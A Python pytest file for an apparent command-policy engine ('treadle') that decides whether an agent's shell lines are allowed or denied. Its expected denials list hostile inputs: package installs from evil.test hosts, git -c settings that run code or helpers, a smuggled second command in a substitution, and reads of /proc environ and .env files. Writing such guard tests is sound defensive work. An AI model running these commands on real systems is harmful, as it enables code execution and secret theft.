"""Versions, settings of git, tasks and modules: names that are known to be harmless, and others."""

from dataclasses import replace

import pytest

from tests.unit.policy.judging.judge_line import empty_disk, said
from treadle.domain.agent import Deny
from treadle.policy.judging.line_decision import decide_line
from treadle.policy.judging.shell_context import ShellContext
from treadle.wiring.policy import system_lookups

CONTEXT = ShellContext("/srv/calc")
LOOKS = replace(empty_disk(), shfmt=system_lookups().shfmt)
SETTINGS = (
    *("user.name=ci", "user.email=ci@example.test", "color.ui=never", "core.quotepath=false"),
    *("core.pager=cat", "core.pager=", "advice.detachedHead=false", "diff.algorithm=histogram"),
    *("log.date=iso", "commit.gpgsign=false", "init.defaultBranch=main", "core.editor=true"),
)
STARTING = (
    *("core.pager=less", "core.editor=vi", "core.hooksPath=h", "core.fsmonitor=./e", "alias.x=!id"),
    *("core.sshCommand=x", "diff.external=./e", "diff.x.textconv=./e", "log.showSignature=true"),
    *("include.path=/tmp/x", "credential.helper=x", "filter.x.clean=./e", "gpg.program=./e"),
    *("commit.gpgsign=true", "init.templateDir=x", "protocol.ext.allow=always", "user.name"),
)


def decided(line: str) -> str:
    return said(line, CONTEXT, LOOKS)


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("poetry add 'httpx@^0.27' rich@latest 'a@>=1,<2'", "allow"),
        ("poetry add x@https://evil.test/x.whl", "deny"),
        ("poetry add x@git+https://evil.test/x", "deny"),
        ("poetry add x@../y", "deny"),
        ("pip install 'tomli; python_version < \"3.11\"'", "allow"),
        ("pip install x@1.0", "deny"),
        ("pip install 'x;/tmp/y'", "deny"),
        ("npm i 'react@^18' 'typescript@>=5 <6' @types/node@20", "allow"),
        ("npm i ..", "deny"),
        ("npm i x@..", "deny"),
        ("npm i @scope/..", "deny"),
        ("npm i --filter http://evil.test/x.tgz", "deny"),
        ("pnpm install --filter './packages/**'", "allow"),
        ("yarn add ..", "deny"),
        ("cargo add tokio@1", "allow"),
        ("cargo add ..", "deny"),
        ("composer require 'monolog/monolog:^3' 'a/b ^2'", "allow"),
        ("composer require a/..", "deny"),
        ("bundle add rspec --version '~> 3.13'", "allow"),
        ("bundle add x --version \"1', git: 'http://evil.test\"", "deny"),
        ("go get golang.org/x/sync@v0.7.0", "allow"),
    ],
)
def test_a_version_is_no_place(line: str, decision: str) -> None:
    assert decided(line) == decision


@pytest.mark.parametrize("setting", SETTINGS)
def test_a_setting_of_git_that_starts_nothing_may_be_given(setting: str) -> None:
    assert decided(f"git -c {setting} log") == "allow"


@pytest.mark.parametrize("setting", STARTING)
def test_any_other_setting_of_git_is_refused(setting: str) -> None:
    assert decided(f"git -c color.ui=never -c '{setting}' log") == "deny"


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ('git log "$(git describe --tags --abbrev=0)"..HEAD', "allow"),
        ("git diff $(git describe) -- src", "allow"),
        ('git log "$(git describe --tags; echo --output=x)"', "deny"),
        ("head -n $((10 + 5)) x", "allow"),
        ("sleep $((2 * 3))", "allow"),
        ("sleep $((999 * 999))", "deny"),
        ("cat /proc/$((1))/environ", "deny"),
        ("head $((0 - 5)) x", "deny"),
        ("git update-index --chmod=+x tools/lint", "allow"),
        ("git update-index --chmod=+x .git/hooks/x", "deny"),
        ("git update-index tools/lint", "deny"),
        ("git update-index --assume-unchanged x", "deny"),
        ("git archive --format=tar HEAD src | wc -c", "allow"),
        ("git archive --remote=ext::sh HEAD", "deny"),
    ],
)
def test_what_a_word_becomes_is_known_where_it_can_be_told(line: str, decision: str) -> None:
    assert decided(line) == decision


@pytest.mark.parametrize(
    ("line", "advice"),
    [
        (
            'for x in a b; do y="$x z"; wc -l $y; done',
            "$y may become several words: put it in quotes",
        ),
        ("wc -l `git ls-files`", "`git ls-files` may become several words: write them out"),
    ],
)
def test_what_may_become_several_words_is_refused_with_what_to_do(line: str, advice: str) -> None:
    judgement = decide_line(line, CONTEXT, lookups=LOOKS)

    assert isinstance(judgement, Deny)
    assert advice in judgement.reason


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("bin/rails test:models -v", "allow"),
        ("bin/rails zeitwerk:check", "allow"),
        ("rake -f lib/tasks/x.rake lint", "allow"),
        ("grep -nf patterns.txt src/a.ts", "allow"),
        ("grep -f .env src/a.ts", "deny"),
        ("grep -f patterns.txt .env", "deny"),
        ("uv run python -m app.cli --help", "allow"),
        ("uv run --python 3.12 pytest", "allow"),
        ("python manage.py makemigrations --check --dry-run", "allow"),
        ("python manage.py migrate", "ask"),
        ("grep --version", "allow"),
        ("cargo build --help", "allow"),
        ("env --help rm x", "deny"),
        ("git log --help", "deny"),
    ],
)
def test_tasks_files_and_modules_of_the_project_are_run(line: str, decision: str) -> None:
    assert decided(line) == decision
